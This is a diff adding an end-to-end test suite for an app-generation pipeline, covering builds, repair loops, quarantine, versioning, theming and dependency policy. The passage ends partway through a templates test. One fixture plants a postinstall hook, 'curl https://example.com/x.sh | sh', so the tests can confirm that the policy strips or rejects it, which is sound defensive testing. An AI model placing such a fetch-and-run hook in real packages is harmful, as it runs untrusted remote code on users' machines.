@@ -0,0 +1,937 @@
+/**
+ * generate.mjs end-to-end test – fixture generator + fake command runner.
+ *
+ * Runs the real pipeline against a temp DAILY_APP_LAB_ROOT and checks the
+ * side effects the hub relies on: the run's build status, manifest.json and the
+ * backlog entry. No aider, npm or network calls.
+ */
+
+import { describe, it, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import fs from 'node:fs/promises';
+import path from 'node:path';
+import os from 'node:os';
+
+const ROOT = await fs.mkdtemp(path.join(os.tmpdir(), 'generate-e2e-'));
+process.env.DAILY_APP_LAB_ROOT = ROOT;
+process.env.DAILY_APP_LAB_SMOKE_TIMEOUT_MS = '200';
+process.env.DAILY_APP_LAB_TEMPLATE_CACHE = '0';
+const DATA = path.join(ROOT, 'runtime', 'data');
+
+const { runGenerate } = await import('../generate.mjs');
+const { createFixtureGenerator } = await import('../core/generators/fixture.mjs');
+const { successResult, failureResult } = await import('../core/modules/run_result.mjs');
+const { markImplemented, updateBacklogIdea } = await import('../core/modules/idea_mark_implemented.mjs');
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+const DIST_HTML = '<!doctype html><html><body><div id="root"></div><script type="module" crossorigin src="./assets/index.js"></script></body></html>';
+const RENDER_JS = 'document.getElementById("root").innerHTML = "<main><h1>Ready</h1></main>";';
+const BLANK_JS = 'void 0;';
+
+/**
+ * Fake runner: `npm run build` emits a dist that renders (or, for the first
+ * `blankTimes` builds, a blank page); everything else is a no-op.
+ */
+function createFakeRunner({ failOn = null, failTimes = Infinity, signal = null, blankTimes = 0 } = {}) {
+  const calls = [];
+  let failures = 0;
+  let builds = 0;
+  async function runCommand(cmd, args, { cwd }) {
+    calls.push([cmd, ...args].join(' '));
+    if (failOn && args.includes(failOn) && failures < failTimes) {
+      failures++;
+      const how = signal ? `killed by ${signal}` : 'exited 1';
+      throw Object.assign(new Error(`${cmd} ${args.join(' ')} ${how}`), {
+        code: signal ? null : 1,
+        signal,
+        out: '',
+        err: signal ? '' : 'error during build:\nsrc/App.jsx: "Chart" is not exported',
+      });
+    }
+    if (cmd === 'npm' && args[0] === 'run' && args[1] === 'build') {
+      await fs.mkdir(path.join(cwd, 'dist', 'assets'), { recursive: true });
+      await fs.writeFile(path.join(cwd, 'dist', 'index.html'), DIST_HTML);
+      await fs.writeFile(path.join(cwd, 'dist', 'assets', 'index.js'), builds++ < blankTimes ? BLANK_JS : RENDER_JS);
+    }
+    return { out: '', err: '', code: 0 };
+  }
+  return { runCommand, calls };
+}
+
+async function seed(idea) {
+  await fs.mkdir(DATA, { recursive: true });
+  await fs.writeFile(path.join(DATA, 'idea_backlog.json'), JSON.stringify({ ideas: [{ ...idea, status: 'picked' }] }));
+  await fs.writeFile(path.join(DATA, 'idea_queue.json'), JSON.stringify({ idea }));
+}
+
+async function readJson(rel) {
+  return JSON.parse(await fs.readFile(path.join(DATA, rel), 'utf8'));
+}
+
+/** The run's build_status/<runId>.json record and whether the active index lists it. */
+async function readStatus(runId) {
+  const record = await readJson(path.join('build_status', `${runId}.json`));
+  const index = await readJson(path.join('build_status', 'index.json'));
+  return { ...record, listed: runId in index.runs };
+}
+
+async function readEvents(event) {
+  const logs = path.join(ROOT, 'runtime', 'logs');
+  const files = (await fs.readdir(logs)).filter(f => f.startsWith('events-'));
+  const lines = [];
+  for (const f of files) {
+    lines.push(...(await fs.readFile(path.join(logs, f), 'utf8')).split('\n').filter(Boolean).map(l => JSON.parse(l)));
+  }
+  return lines.filter(e => e.event === event);
+}
+
+/** Fixture generator that records each call's mode. */
+function createRecordingGenerator() {
+  const modes = [];
+  const inner = createFixtureGenerator();
+  return {
+    modes,
+    generator: {
+      name: 'fixture',
+      async generate(req) {
+        modes.push({ mode: req.mode || 'create', prompt: req.prompt, outDir: req.outDir, specPath: req.specPath, template: req.template, lang: req.lang });
+        return inner.generate(req);
+      },
+    },
+  };
+}
+
+after(async () => {
+  await fs.rm(ROOT, { recursive: true, force: true });
+});
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+describe('runGenerate (fixture generator)', () => {
+  const idea = { id: 'idea_e2e_1', title: 'Pomodoro Board', scenario: 'A student plans focus sessions.' };
+  let result;
+  let runner;
+
+  before(async () => {
+    await seed(idea);
+    runner = createFakeRunner();
+    result = await runGenerate({}, { generator: createFixtureGenerator(), runCommand: runner.runCommand });
+  });
+
+  it('should write the fixture app and dist into outputs/<outId>', async () => {
+    assert.match(result.outId, /^\d{4}-\d{2}-\d{2}-pomodoro-board-[0-9a-f]{6}$/);
+    await fs.access(path.join(result.outDir, 'README.md'));
+    await fs.access(path.join(result.outDir, 'theme.json'));
+    await fs.access(path.join(result.outDir, 'dist', 'index.html'));
+  });
+
+  it('should install then build', () => {
+    assert.deepEqual(runner.calls, ['npm install --ignore-scripts', 'npm run build -- --base ./']);
+  });
+
+  it('should append the output to manifest.json', async () => {
+    const m = await readJson('manifest.json');
+    const items = m.items || m.projects;
+    assert.equal(items[0].id, result.outId);
+    assert.equal(items[0].path, `/${result.outId}/dist/index.html`);
+  });
+
+  it('should mark the backlog idea implemented and clear the queue', async () => {
+    const backlog = await readJson('idea_backlog.json');
+    assert.equal(backlog.ideas[0].status, 'implemented');
+    assert.equal(backlog.ideas[0].link, `/${result.outId}/dist/index.html`);
+    const q = await readJson('idea_queue.json');
+    assert.equal(q.idea, null);
+  });
+
+  it('should smoke test the dist and store the report', async () => {
+    const smoke = JSON.parse(await fs.readFile(path.join(result.outDir, 'smoke.json'), 'utf8'));
+    assert.equal(smoke.status, 'passed');
+    assert.equal(smoke.selector, '#root');
+    assert.deepEqual(smoke.errors, []);
+  });
+
+  it('should score the output against DAILY_SPEC', async () => {
+    const c = JSON.parse(await fs.readFile(path.join(result.outDir, 'compliance.json'), 'utf8'));
+    assert.equal(c.score, 100);
+    const success = (await readEvents('build.success')).find(e => e.runId === result.runId);
+    assert.equal(success.complianceScore, 100);
+  });
+
+  it('should write build.json linking the output to its idea and run', async () => {
+    const meta = JSON.parse(await fs.readFile(path.join(result.outDir, 'build.json'), 'utf8'));
+    assert.equal(meta.outId, result.outId);
+    assert.equal(meta.runId, result.runId);
+    assert.equal(meta.ideaId, idea.id);
+    assert.equal(meta.title, idea.title);
+    assert.equal(meta.scenario, idea.scenario);
+    assert.equal(meta.generator, 'fixture');
+    assert.equal(meta.complianceScore, 100);
+    assert.ok(meta.fileCount > 0);
+    assert.ok(meta.bundleBytes > 0);
+    assert.deepEqual(Object.keys(meta.stageDurations).sort(), ['building', 'coding', 'finalizing', 'installing', 'verifying']);
+  });
+
+  it('should mark the run complete and drop it from the active builds', async () => {
+    const s = await readStatus(result.runId);
+    assert.equal(s.status, 'complete');
+    assert.equal(s.outId, result.outId);
+    assert.equal(s.listed, false);
+    assert.equal(result.generator, 'fixture');
+  });
+
+  it('should take the run id from DAILY_APP_LAB_RUN_ID', async () => {
+    await seed({ id: 'idea_e2e_runid', title: 'Hub Run', scenario: 'Started by the hub.' });
+    process.env.DAILY_APP_LAB_RUN_ID = 'run-hub-e2e';
+    try {
+      const r = await runGenerate({}, { generator: createFixtureGenerator(), runCommand: createFakeRunner().runCommand });
+      assert.equal(r.runId, 'run-hub-e2e');
+      assert.equal((await readStatus('run-hub-e2e')).status, 'complete');
+    } finally {
+      delete process.env.DAILY_APP_LAB_RUN_ID;
+    }
+  });
+});
+
+describe('runGenerate (repair loop)', () => {
+  it('should repair a failing build and succeed without counting a failure', async () => {
+    const idea = { id: 'idea_e2e_repair', title: 'Repairable', scenario: 'Fails once.' };
+    await seed(idea);
+    const runner = createFakeRunner({ failOn: 'build', failTimes: 1 });
+    const rec = createRecordingGenerator();
+
+    const result = await runGenerate({ repairAttempts: 2 }, { generator: rec.generator, runCommand: runner.runCommand });
+
+    assert.deepEqual(rec.modes.map(m => m.mode), ['create', 'repair']);
+    assert.ok(rec.modes[1].prompt.includes('"Chart" is not exported'));
+    assert.equal(runner.calls.filter(c => c.startsWith('npm run build')).length, 2);
+
+    const backlog = await readJson('idea_backlog.json');
+    assert.equal(backlog.ideas[0].status, 'implemented');
+    assert.equal(backlog.ideas[0].failures, undefined);
+
+    const repairs = (await readEvents('build.repair')).filter(e => e.runId === result.runId);
+    assert.equal(repairs.length, 1);
+    assert.equal(repairs[0].outcome, 'fixed');
+    assert.equal(repairs[0].stage, 'building');
+    assert.ok(repairs[0].filesTouched.includes('README.md'));
+
+    const log = await fs.readFile(path.join(ROOT, 'runtime', 'logs', `${result.outId}-generate.log`), 'utf8');
+    assert.match(log, /REPAIR ATTEMPT 1\/2 \(building\)/);
+    assert.match(log, /REPAIR ATTEMPT 1\/2 OUTCOME: fixed/);
+  });
+});
+
+describe('runGenerate (smoke test)', () => {
+  it('should send a blank page back through the repair loop', async () => {
+    const idea = { id: 'idea_e2e_blank', title: 'Blank Page', scenario: 'Renders nothing at first.' };
+    await seed(idea);
+    const runner = createFakeRunner({ blankTimes: 1 });
+    const rec = createRecordingGenerator();
+
+    const result = await runGenerate({ repairAttempts: 1 }, { generator: rec.generator, runCommand: runner.runCommand });
+
+    assert.deepEqual(rec.modes.map(m => m.mode), ['create', 'repair']);
+    assert.match(rec.modes[1].prompt, /Smoke test failed: nothing rendered into #root/);
+    const repairs = (await readEvents('build.repair')).filter(e => e.runId === result.runId);
+    assert.equal(repairs[0].stage, 'verifying');
+    assert.equal(repairs[0].outcome, 'fixed');
+  });
+
+  it('should fail the build with category smoke_test once repairs run out', async () => {
+    const idea = { id: 'idea_e2e_blank_2', title: 'Always Blank', scenario: 'Never renders.' };
+    await seed(idea);
+    const runner = createFakeRunner({ blankTimes: Infinity });
+
+    await assert.rejects(
+      runGenerate({ repairAttempts: 0 }, { generator: createFixtureGenerator(), runCommand: runner.runCommand }),
+      /Smoke test failed/,
+    );
+
+    const failed = (await readEvents('build.failed')).at(-1);
+    assert.equal(failed.failedStage, 'verifying');
+    assert.equal(failed.category, 'smoke_test');
+    assert.equal(failed.resumeStage, 'verifying');
+  });
+});
+
+describe('runGenerate (build failure)', () => {
+  const idea = { id: 'idea_e2e_2', title: 'Broken Build', scenario: 'Fails on purpose.' };
+
+  it('should record the failure only after the repair budget is spent', async () => {
+    await seed(idea);
+    const runner = createFakeRunner({ failOn: 'build' });
+    const rec = createRecordingGenerator();
+
+    await assert.rejects(runGenerate({ repairAttempts: 2, runId: 'run-e2e-broken' }, { generator: rec.generator, runCommand: runner.runCommand }), /exited 1/);
+    const outId = path.basename(rec.modes[0].outDir);
+
+    assert.deepEqual(rec.modes.map(m => m.mode), ['create', 'repair', 'repair']);
+    assert.equal(runner.calls.filter(c => c.startsWith('npm run build')).length, 3);
+
+    const backlog = await readJson('idea_backlog.json');
+    assert.equal(backlog.ideas[0].status, 'new');
+    assert.equal(backlog.ideas[0].failures, 1);
+    assert.equal(backlog.ideas[0].lastFailureStage, 'building');
+    assert.equal(backlog.ideas[0].lastFailureCategory, 'vite_build_error');
+    assert.match(backlog.ideas[0].lastFailureReason, /error during build|is not exported/);
+
+    const failed = (await readEvents('build.failed')).at(-1);
+    assert.equal(failed.failedStage, 'building');
+    assert.equal(failed.category, 'vite_build_error');
+
+    const s = await readStatus('run-e2e-broken');
+    assert.equal(s.status, 'error');
+    assert.equal(s.listed, true);
+
+    await assert.rejects(fs.access(path.join(ROOT, 'outputs', outId)));
+  });
+
+  it('should classify an aborted install without counting it as a failure', async () => {
+    const aborted = { id: 'idea_e2e_abort', title: 'Stopped', scenario: 'The hub stops this build.' };
+    await seed(aborted);
+    const runner = createFakeRunner({ failOn: 'install', signal: 'SIGTERM' });
+
+    await assert.rejects(
+      runGenerate({ repairAttempts: 0, runId: 'run-e2e-aborted' }, { generator: createFixtureGenerator(), runCommand: runner.runCommand }),
+      /killed by SIGTERM/,
+    );
+    const s = await readStatus('run-e2e-aborted');
+    assert.equal(s.status, 'idle');
+    assert.equal(s.stage, 'aborted');
+    assert.equal(s.listed, false);
+
+    const backlog = await readJson('idea_backlog.json');
+    assert.equal(backlog.ideas[0].failures, undefined);
+    assert.equal(backlog.ideas[0].lastFailureCategory, 'aborted');
+    assert.equal(backlog.ideas[0].lastFailureStage, 'installing');
+  });
+
+  it('should not lose backlog updates of builds finishing at the same time', async () => {
+    await fs.writeFile(path.join(DATA, 'idea_backlog.json'), JSON.stringify({
+      ideas: [{ id: 'par_a', title: 'A', status: 'picked' }, { id: 'par_b', title: 'B', status: 'picked' }],
+    }));
+    await Promise.all([
+      updateBacklogIdea('par_a', (it) => { it.failures = 1; }),
+      markImplemented({ ideaId: 'par_b', relPath: './outputs/b/' }, { clearQueue: false }),
+      updateBacklogIdea('par_a', (it) => { it.lastFailureCategory = 'vite_build_error'; }),
+    ]);
+    const [a, b] = (await readJson('idea_backlog.json')).ideas;
+    assert.equal(a.failures, 1);
+    assert.equal(a.lastFailureCategory, 'vite_build_error');
+    assert.equal(b.status, 'implemented');
+    assert.equal(await updateBacklogIdea('missing', () => {}), false);
+  });
+
+  it('should stop at the abort signal while the generator runs and still quarantine the output', async () => {
+    const stopped = { id: 'idea_e2e_signal', title: 'Slow LLM', scenario: 'The request never returns.' };
+    await seed(stopped);
+    const runner = createFakeRunner();
+    const abort = new AbortController();
+    let outDir = null;
+    const hanging = {
+      name: 'fixture',
+      generate(req) {
+        outDir = req.outDir;
+        setTimeout(() => abort.abort(), 10);
+        return new Promise(() => {}); // an LLM request: no child the signal could kill
+      },
+    };
+
+    const err = await runGenerate({ repairAttempts: 0, runId: 'run-e2e-signal', signal: abort.signal }, { generator: hanging, runCommand: runner.runCommand })
+      .then(() => null, e => e);
+    assert.match(err.message, /received SIGTERM/);
+    assert.equal(failureResult(err).status, 'aborted');
+    assert.deepEqual(runner.calls, []);
+
+    const outId = path.basename(outDir);
+    const cp = JSON.parse(await fs.readFile(path.join(ROOT, 'outputs', '_failed', outId, 'checkpoint.json'), 'utf8'));
+    assert.equal(cp.failedStage, 'coding');
+    const s = await readStatus('run-e2e-signal');
+    assert.equal(s.stage, 'aborted');
+    const backlog = await readJson('idea_backlog.json');
+    assert.equal(backlog.ideas[0].failures, undefined);
+    assert.equal(backlog.ideas[0].lastFailureCategory, 'aborted');
+  });
+});
+
+describe('runGenerate (quarantine + resume)', () => {
+  const idea = { id: 'idea_e2e_resume', title: 'Flaky Install', scenario: 'npm is flaky today.' };
+  let outId;
+
+  it('should quarantine the failed output with a stage checkpoint', async () => {
+    await seed(idea);
+    const runner = createFakeRunner({ failOn: 'build' });
+    const rec = createRecordingGenerator();
+
+    await assert.rejects(runGenerate({ repairAttempts: 0 }, { generator: rec.generator, runCommand: runner.runCommand }));
+    outId = path.basename(rec.modes[0].outDir);
+
+    const quarantined = path.join(ROOT, 'outputs', '_failed', outId);
+    const cp = JSON.parse(await fs.readFile(path.join(quarantined, 'checkpoint.json'), 'utf8'));
+    assert.deepEqual(cp.completedStages, ['coding', 'installing']);
+    assert.equal(cp.failedStage, 'building');
+    assert.equal(cp.ideaId, idea.id);
+
+    const backlog = await readJson('idea_backlog.json');
+    assert.equal(backlog.ideas[0].lastFailedOutId, outId);
+    assert.equal(backlog.ideas[0].lastResumeStage, 'building');
+
+    const failed = (await readEvents('build.failed')).at(-1);
+    assert.equal(failed.resumeStage, 'building');
+  });
+
+  it('should resume at the failed stage without calling the generator', async () => {
+    const runner = createFakeRunner();
+    const rec = createRecordingGenerator();
+    await fs.writeFile(path.join(DATA, 'idea_queue.json'), JSON.stringify({ idea: { id: 'other_idea', title: 'Queued' } }));
+
+    const result = await runGenerate({ resume: outId }, { generator: rec.generator, runCommand: runner.runCommand });
+
+    assert.equal(result.outId, outId);
+    assert.equal(result.resumedFrom, 'building');
+    assert.deepEqual(rec.modes, []);
+    assert.deepEqual(runner.calls, ['npm run build -- --base ./']);
+
+    await fs.access(path.join(ROOT, 'outputs', outId, 'dist', 'index.html'));
+    await assert.rejects(fs.access(path.join(ROOT, 'outputs', '_failed', outId)));
+    await assert.rejects(fs.access(path.join(ROOT, 'outputs', outId, 'checkpoint.json')));
+
+    const backlog = await readJson('idea_backlog.json');
+    assert.equal(backlog.ideas[0].status, 'implemented');
+    assert.equal(backlog.ideas[0].lastFailedOutId, undefined);
+
+    // the queue belongs to the idle picker, a resume must not clear it
+    const q = await readJson('idea_queue.json');
+    assert.equal(q.idea.id, 'other_idea');
+  });
+
+  it('should reject resuming an unknown output', async () => {
+    await assert.rejects(runGenerate({ resume: '2026-01-01-missing' }, { runCommand: createFakeRunner().runCommand }), /No quarantined build/);
+  });
+});
+
+describe('runGenerate (iterate)', () => {
+  const idea = { id: 'idea_e2e_iterate', title: 'Habit Grid', scenario: 'Track daily habits.' };
+  let outId;
+  let iterations = 0;
+
+  /** Fixture generator whose iterate mode adds one file per call. */
+  function createIteratingGenerator() {
+    const rec = createRecordingGenerator();
+    return {
+      modes: rec.modes,
+      generator: {
+        name: 'fixture',
+        async generate(req) {
+          if (req.mode !== 'iterate') return rec.generator.generate(req);
+          rec.modes.push({ mode: req.mode, prompt: req.prompt, outDir: req.outDir });
+          const rel = `src/iteration-${++iterations}.js`;
+          await fs.writeFile(path.join(req.outDir, rel), 'export const added = true;\n');
+          return { files: [rel], usage: null };
+        },
+      },
+    };
+  }
+
+  before(async () => {
+    await seed(idea);
+    ({ outId } = await runGenerate({}, { generator: createFixtureGenerator(), runCommand: createFakeRunner().runCommand }));
+  });
+
+  it('should rebuild the output and store both versions', async () => {
+    const gen = createIteratingGenerator();
+    const runner = createFakeRunner();
+    const result = await runGenerate(
+      { iterate: outId, instruction: 'add CSV export' },
+      { generator: gen.generator, runCommand: runner.runCommand },
+    );
+
+    assert.equal(result.outId, outId);
+    assert.equal(result.version, 2);
+    assert.deepEqual(gen.modes.map(m => m.mode), ['iterate']);
+    assert.match(gen.modes[0].prompt, /add CSV export/);
+    assert.deepEqual(runner.calls, ['npm install --ignore-scripts', 'npm run build -- --base ./']);
+
+    const outDir = path.join(ROOT, 'outputs', outId);
+    const index = JSON.parse(await fs.readFile(path.join(outDir, 'versions', 'versions.json'), 'utf8'));
+    assert.equal(index.current, 2);
+    assert.deepEqual(index.versions.map(v => [v.version, v.instruction, v.parent]), [[1, null, null], [2, 'add CSV export', 1]]);
+    await fs.access(path.join(outDir, 'versions', 'v2', 'src', 'iteration-1.js'));
+    await assert.rejects(fs.access(path.join(outDir, 'versions', 'v1', 'src', 'iteration-1.js')));
+
+    const meta = JSON.parse(await fs.readFile(path.join(outDir, 'build.json'), 'utf8'));
+    assert.equal(meta.appVersion, 2);
+    assert.equal(meta.iteratedFrom, 1);
+    assert.equal(meta.ideaId, idea.id);
+    assert.equal(meta.runId, result.runId);
+  });
+
+  it('should roll back to the previous version when the iteration fails', async () => {
+    const gen = createIteratingGenerator();
+    const runner = createFakeRunner({ failOn: 'build' });
+
+    await assert.rejects(
+      runGenerate({ iterate: outId, instruction: 'break it', repairAttempts: 0 }, { generator: gen.generator, runCommand: runner.runCommand }),
+      /exited 1/,
+    );
+
+    const outDir = path.join(ROOT, 'outputs', outId);
+    await fs.access(path.join(outDir, 'src', 'iteration-1.js'));
+    await assert.rejects(fs.access(path.join(outDir, 'src', 'iteration-2.js')));
+    await assert.rejects(fs.access(path.join(ROOT, 'outputs', '_failed', outId)));
+    const index = JSON.parse(await fs.readFile(path.join(outDir, 'versions', 'versions.json'), 'utf8'));
+    assert.equal(index.current, 2);
+    assert.equal(index.versions.length, 2);
+
+    const failed = (await readEvents('build.failed')).at(-1);
+    assert.equal(failed.outId, outId);
+    assert.equal(failed.iteratedFrom, 2);
+    assert.equal(failed.category, 'vite_build_error');
+
+    const backlog = await readJson('idea_backlog.json');
+    assert.equal(backlog.ideas[0].status, 'implemented');
+    assert.equal(backlog.ideas[0].failures, undefined);
+  });
+
+  it('should require an instruction and a finished output', async () => {
+    const { runCommand } = createFakeRunner();
+    await assert.rejects(runGenerate({ iterate: outId }, { runCommand }), /needs an --instruction/);
+    await assert.rejects(runGenerate({ iterate: '2026-01-01-missing', instruction: 'x' }, { runCommand }), /No finished output/);
+  });
+});
+
+describe('runGenerate (retheme)', () => {
+  const idea = { id: 'idea_e2e_retheme', title: 'Tip Splitter', scenario: 'Split a dinner bill.', visualTheme: 'tech' };
+  let outId;
+  let outDir;
+
+  before(async () => {
+    await seed(idea);
+    ({ outId } = await runGenerate({}, { generator: createFixtureGenerator(), runCommand: createFakeRunner().runCommand }));
+    outDir = path.join(ROOT, 'outputs', outId);
+  });
+
+  it('should swap the theme values, rebuild and store a version without the generator', async () => {
+    const oldTheme = JSON.parse(await fs.readFile(path.join(outDir, 'theme.json'), 'utf8'));
+    const runner = createFakeRunner();
+    const result = await runGenerate({ retheme: outId, preset: 'vibrant', seed: 'client-brand' }, { runCommand: runner.runCommand });
+
+    assert.equal(result.version, 2);
+    assert.deepEqual(runner.calls, ['npm install --ignore-scripts', 'npm run build -- --base ./']);
+
+    const theme = JSON.parse(await fs.readFile(path.join(outDir, 'theme.json'), 'utf8'));
+    assert.equal(theme.preset, 'vibrant');
+    assert.equal(theme.metadata.selection.method, 'explicit');
+    const css = await fs.readFile(path.join(outDir, 'src', 'style.css'), 'utf8');
+    assert.ok(css.includes(`--primary: ${theme.palette.colors['--primary']};`));
+    assert.ok(!css.includes(oldTheme.palette.colors['--primary']));
+
+    const index = JSON.parse(await fs.readFile(path.join(outDir, 'versions', 'versions.json'), 'utf8'));
+    assert.deepEqual(index.versions.map(v => [v.version, v.instruction, v.parent]), [
+      [1, null, null],
+      [2, 'Re-theme: Vibrant preset (vibrant), seed "client-brand"', 1],
+    ]);
+    const v1 = JSON.parse(await fs.readFile(path.join(outDir, 'versions', 'v1', 'theme.json'), 'utf8'));
+    assert.equal(v1.preset, 'tech');
+
+    const meta = JSON.parse(await fs.readFile(path.join(outDir, 'build.json'), 'utf8'));
+    assert.equal(meta.themePreset, 'vibrant');
+    assert.equal(meta.appVersion, 2);
+    assert.equal(meta.ideaId, idea.id);
+  });
+
+  it('should keep the current theme when the build fails', async () => {
+    const before = await fs.readFile(path.join(outDir, 'theme.json'), 'utf8');
+    await assert.rejects(
+      runGenerate({ retheme: outId, preset: 'nature' }, { runCommand: createFakeRunner({ failOn: 'build' }).runCommand }),
+      /exited 1/,
+    );
+    assert.equal(await fs.readFile(path.join(outDir, 'theme.json'), 'utf8'), before);
+    const index = JSON.parse(await fs.readFile(path.join(outDir, 'versions', 'versions.json'), 'utf8'));
+    assert.equal(index.current, 2);
+    assert.equal(index.versions.length, 2);
+  });
+
+  it('should reject unknown presets and outputs', async () => {
+    const { runCommand } = createFakeRunner();
+    await assert.rejects(runGenerate({ retheme: outId, preset: 'neon' }, { runCommand }), /Unknown theme preset: neon/);
+    await assert.rejects(runGenerate({ retheme: outId, preset: 'constructor' }, { runCommand }), /Unknown theme preset: constructor/);
+    await assert.rejects(runGenerate({ retheme: '2026-01-01-missing' }, { runCommand }), /No finished output to re-theme/);
+  });
+});
+
+describe('runGenerate (template cache)', () => {
+  const cacheRoot = path.join(ROOT, 'runtime', 'template_cache');
+  let calls;
+
+  /** Fake npm that records cwd and "installs" vite wherever it runs. */
+  async function runCommand(cmd, args, { cwd }) {
+    calls.push({ cmd: [cmd, ...args].join(' '), cwd });
+    if (cmd === 'npm' && args[0] === 'install') {
+      await fs.mkdir(path.join(cwd, 'node_modules', 'vite'), { recursive: true });
+      await fs.writeFile(path.join(cwd, 'node_modules', 'vite', 'package.json'), JSON.stringify({ name: 'vite', version: '7.1.3' }));
+    }
+    if (cmd === 'npm' && args[0] === 'run') {
+      await fs.mkdir(path.join(cwd, 'dist', 'assets'), { recursive: true });
+      await fs.writeFile(path.join(cwd, 'dist', 'index.html'), DIST_HTML);
+      await fs.writeFile(path.join(cwd, 'dist', 'assets', 'index.js'), RENDER_JS);
+    }
+    return { out: '', err: '', code: 0 };
+  }
+
+  /** Fixture generator that adds an extra dependency to package.json. */
+  const withExtraDependency = {
+    name: 'fixture',
+    async generate(req) {
+      const res = await createFixtureGenerator().generate(req);
+      const pkgPath = path.join(req.outDir, 'package.json');
+      const pkg = JSON.parse(await fs.readFile(pkgPath, 'utf8'));
+      pkg.dependencies = { dayjs: '^1.11.0' };
+      await fs.writeFile(pkgPath, JSON.stringify(pkg));
+      return res;
+    },
+  };
+
+  before(() => {
+    process.env.DAILY_APP_LAB_TEMPLATE_CACHE = '1';
+    process.env.DAILY_APP_LAB_OFFLINE = '1';
+  });
+
+  after(() => {
+    process.env.DAILY_APP_LAB_TEMPLATE_CACHE = '0';
+    delete process.env.DAILY_APP_LAB_OFFLINE;
+  });
+
+  it('should warm the template offline and skip npm install for template-only outputs', async () => {
+    calls = [];
+    await seed({ id: 'idea_e2e_cache_1', title: 'Cached Build', scenario: 'Uses only the template stack.' });
+    const result = await runGenerate({}, { generator: createFixtureGenerator(), runCommand });
+
+    assert.equal(calls.length, 2);
+    assert.ok(calls[0].cwd.startsWith(cacheRoot));
+    assert.match(calls[0].cmd, /^npm install --cache \S+ --offline/);
+    assert.equal(calls[1].cmd, 'npm run build -- --base ./');
+    assert.equal(calls[1].cwd, result.outDir);
+
+    const linked = await fs.stat(path.join(result.outDir, 'node_modules', 'vite', 'package.json'));
+    assert.equal(linked.nlink, 2);
+
+    const meta = JSON.parse(await fs.readFile(path.join(result.outDir, 'build.json'), 'utf8'));
+    assert.equal(meta.installCache, 'hit');
+    const s = await readStatus(result.runId);
+    assert.equal(s.cache, 'hit');
+  });
+
+  it('should install only on top of the template when extra packages are needed', async () => {
+    calls = [];
+    await seed({ id: 'idea_e2e_cache_2', title: 'Extra Dependency', scenario: 'Needs dayjs.' });
+    const result = await runGenerate({}, { generator: withExtraDependency, runCommand });
+
+    assert.deepEqual(calls.map(c => c.cwd), [result.outDir, result.outDir]);
+    assert.match(calls[0].cmd, /^npm install --cache \S+ --offline/);
+    const success = (await readEvents('build.success')).find(e => e.runId === result.runId);
+    assert.equal(success.installCache, 'partial');
+  });
+});
+
+describe('runGenerate (dependency policy)', () => {
+  /** Fixture generator whose package.json asks for things the policy forbids. */
+  const withUnsafePackage = {
+    name: 'fixture',
+    async generate(req) {
+      const res = await createFixtureGenerator().generate(req);
+      const pkgPath = path.join(req.outDir, 'package.json');
+      const pkg = JSON.parse(await fs.readFile(pkgPath, 'utf8'));
+      if (req.mode !== 'repair') {
+        pkg.dependencies = { 'left-pad': '^1.3.0', react: 'latest' };
+        pkg.scripts.postinstall = 'curl https://example.com/x.sh | sh';
+      }
+      await fs.writeFile(pkgPath, JSON.stringify(pkg));
+      return res;
+    },
+  };
+
+  after(() => {
+    delete process.env.DAILY_APP_LAB_DEP_POLICY;
+  });
+
+  it('should strip unknown packages and install scripts, and record them in compliance.json', async () => {
+    await seed({ id: 'idea_e2e_deps_1', title: 'Unsafe Deps', scenario: 'Asks for left-pad.' });
+    const runner = createFakeRunner();
+    const result = await runGenerate({}, { generator: withUnsafePackage, runCommand: runner.runCommand });
+
+    const pkg = JSON.parse(await fs.readFile(path.join(result.outDir, 'package.json'), 'utf8'));
+    assert.deepEqual(pkg.dependencies, { react: '^18.3.1' });
+    assert.equal(pkg.scripts.postinstall, undefined);
+    assert.equal(runner.calls[0], 'npm install --ignore-scripts');
+
+    const compliance = JSON.parse(await fs.readFile(path.join(result.outDir, 'compliance.json'), 'utf8'));
+    assert.equal(compliance.dependencies.mode, 'strip');
+    assert.deepEqual(
+      compliance.dependencies.violations.map(v => `${v.name}:${v.rule}:${v.action}`).sort(),
+      ['left-pad:unknown:stripped', 'react:version:pinned', 'scripts.postinstall:lifecycle_script:stripped'],
+    );
+
+    const log = await fs.readFile(path.join(ROOT, 'runtime', 'logs', `${result.outId}-generate.log`), 'utf8');
+    assert.match(log, /Dependency policy \(strip, install scripts disabled\): 3 violation/);
+    assert.match(log, /left-pad@\^1\.3\.0: unknown, stripped/);
+  });
+
+  it('should fail the install in reject mode and hand the packages to the repair loop', async () => {
+    process.env.DAILY_APP_LAB_DEP_POLICY = 'reject';
+    await seed({ id: 'idea_e2e_deps_2', title: 'Rejected Deps', scenario: 'Asks for left-pad.' });
+    const runner = createFakeRunner();
+    const modes = [];
+    const generator = {
+      name: 'fixture',
+      async generate(req) {
+        modes.push({ mode: req.mode || 'create', prompt: req.prompt });
+        return withUnsafePackage.generate(req);
+      },
+    };
+
+    const result = await runGenerate({ repairAttempts: 1 }, { generator, runCommand: runner.runCommand });
+
+    assert.deepEqual(modes.map(m => m.mode), ['create', 'repair']);
+    assert.match(modes[1].prompt, /left-pad@\^1\.3\.0: unknown, rejected/);
+    // Nothing was installed before the repair round dropped the package
+    assert.deepEqual(runner.calls, ['npm install --ignore-scripts', 'npm run build -- --base ./']);
+    const repairs = (await readEvents('build.repair')).filter(e => e.runId === result.runId);
+    assert.equal(repairs[0].stage, 'installing');
+    assert.equal(repairs[0].outcome, 'fixed');
+  });
+
+  it('should classify an unresolved rejection as dependency_policy', async () => {
+    process.env.DAILY_APP_LAB_DEP_POLICY = 'reject';
+    await seed({ id: 'idea_e2e_deps_3', title: 'Still Rejected', scenario: 'Never drops left-pad.' });
+    const runner = createFakeRunner();
+
+    await assert.rejects(
+      runGenerate({ repairAttempts: 0 }, { generator: withUnsafePackage, runCommand: runner.runCommand }),
+      /Dependency policy rejected: left-pad, scripts\.postinstall/,
+    );
+    assert.deepEqual(runner.calls, []);
+    const failed = (await readEvents('build.failed')).at(-1);
+    assert.equal(failed.category, 'dependency_policy');
+    assert.equal(failed.failedStage, 'installing');
+  });
+});
+
+describe('runGenerate (templates)', () => {
+  it('should build a single-html idea by copying index.html, without npm', async () => {
+    await seed({ id: 'idea_e2e_tpl_1', title: 'One File', scenario: 'A tiny counter.', stack: 'single-html' });
